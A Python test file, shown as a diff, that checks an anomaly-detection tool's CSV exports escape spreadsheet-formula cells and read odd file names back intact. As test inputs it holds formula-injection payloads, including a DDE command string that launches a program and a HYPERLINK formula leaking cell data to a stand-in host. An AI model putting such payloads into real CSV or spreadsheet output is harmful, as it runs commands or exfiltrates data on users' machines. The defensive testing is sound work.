@@ -1,0 +1,97 @@
+"""Hardening p44: an adversarial sweep of ``insightad batch``, ``insightad sort`` and their Ray paths, and the
+CSV/Parquet files they write.
+
+Covered: every CSV the tool writes (batch --csv, sort's results.csv, evaluate's per_defect.csv) guards cells a
+spreadsheet would run as a formula through one helper (``io.csv_cell``) and reads back identically (commas, quotes,
+newlines, a leading '); list files of paths (a UTF-8 byte-order mark, a file whose name starts with #, relative lines
+of a list given as a URL); temporaries a killed run left beside --out and in its parts folder; SIGTERM stopping
+batch and sort as Ctrl-C does.
+"""
+
+from __future__ import annotations
+
+import csv
+import shutil
+from pathlib import Path
+
+import pyarrow.parquet as pq
+import pytest
+
+from insightad.cli import main
+from insightad.io import FORMULA_START, csv_cell, csv_value
+
+ODD_NAMES = ["+a.png", "a,b.png", 'q"uote.png', "new\nline.png", "'quoted.png", "-b.png", "@c.png", "tab\tin.png"]
+
+
+def _formula_free(rows: list[list[str]]) -> None:
+    """No cell of a CSV starts like a spreadsheet formula, unless it is a plain number."""
+    for row in rows:
+        for cell in row:
+            if cell[:1] in FORMULA_START:
+                float(cell)  # a number such as -1.5 is left as it is; anything else must have been guarded
+
+
+@pytest.fixture
+def odd_folder(mvtec_dir, tmp_path) -> Path:
+    root = tmp_path / "odd"
+    root.mkdir()
+    for name in ODD_NAMES:
+        shutil.copy(mvtec_dir / "test" / "good" / "000.png", root / name)
+    return root
+
+
+# ----------------------------------------------------------------------------- CSV cells
+def test_p44_csv_cell_round_trips_and_guards():
+    for text in ["=1+2", "+x", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "'=x", "'x", "''", "x", "", "-1.5",
+                 "+3e-4", "-inf", "nan", "/data/=x.png"]:
+        cell = csv_cell(text)
+        assert csv_value(cell) == text
+        assert cell[:1] not in FORMULA_START or text in ("-1.5", "+3e-4", "-inf")
+
+
+def test_p44_batch_csv_guards_formulas_and_reads_back(baseline_model, odd_folder, tmp_path, capsys):
+    """A list line a spreadsheet would run (``=HYPERLINK(...)``) landed as a formula in both the path and error
+    cells of --csv; names with commas, quotes, newlines and a leading ' read back as the Parquet table holds them."""
+    listing = tmp_path / "list.txt"
+    listing.write_text('=HYPERLINK("http://evil.example/?"&A1,"click")\n@SUM(1+1)\nodd/+a.png\n')
+    for src, name in ((listing, "l"), (odd_folder, "f")):
+        out, table = tmp_path / f"{name}.parquet", tmp_path / f"{name}.csv"
+        main(["batch", "--model", str(baseline_model), "--input", str(src), "--out", str(out), "--csv", str(table)])
+        with open(table, newline="", encoding="utf-8") as f:
+            rows = list(csv.reader(f))
+        _formula_free(rows[1:])
+        want = pq.read_table(out).drop_columns(["path_bytes"]).to_pylist()
+        header = rows[0]
+        for row, expected in zip(rows[1:], want):
+            for key in ("path", "error", "model_sha256"):
+                cell = row[header.index(key)]
+                assert (csv_value(cell) if cell else None) == expected[key]
+        assert len(rows) - 1 == len(want)
+    capsys.readouterr()
+
+
+def test_p44_sort_csv_guards_and_resumes_with_odd_names(baseline_model, odd_folder, tmp_path, capsys):
+    """sort's results.csv: every text cell through the one guard, read back (resume) without it, odd names intact."""
+    from insightad.apps.sort import CSV_NAME, FolderSorter
+    from insightad.model_file import load_model
+
+    out = tmp_path / "sorted"
+    assert main(["sort", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(out)]) == 0
+    with open(out / CSV_NAME, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert sorted(Path(csv_value(r["path"])).name for r in rows) == sorted(ODD_NAMES)
+    sorter = FolderSorter(load_model(baseline_model), odd_folder, out)
+    assert sorter.run().skipped == len(ODD_NAMES)  # read back identically: nothing sorted twice
+    text = sorter._csv_text([sorter._row(Path("=cmd.png"), 1.0, -0.5, "error", error="=1+2: cannot read")])
+    assert next(csv.reader([text]))[:3] == ["'=cmd.png", "1", "-0.5"]
+    assert "'=1+2: cannot read" in text
+    capsys.readouterr()
+
+
+def test_p44_per_defect_csv_guards_defect_names():
+    """A defect folder named like a formula (``=cmd``) landed as one in evaluate's per_defect.csv."""
+    from insightad.evaluate.report import per_defect_csv
+
+    text = per_defect_csv([{"defect": "=cmd|' /C calc'!A0", "count": 2, "mean": -1.5, "detection_rate": 0.5}])
+    rows = list(csv.reader(text.splitlines()))
+    assert rows[1] == ["'=cmd|' /C calc'!A0", "2", "-1.5", "0.5"]
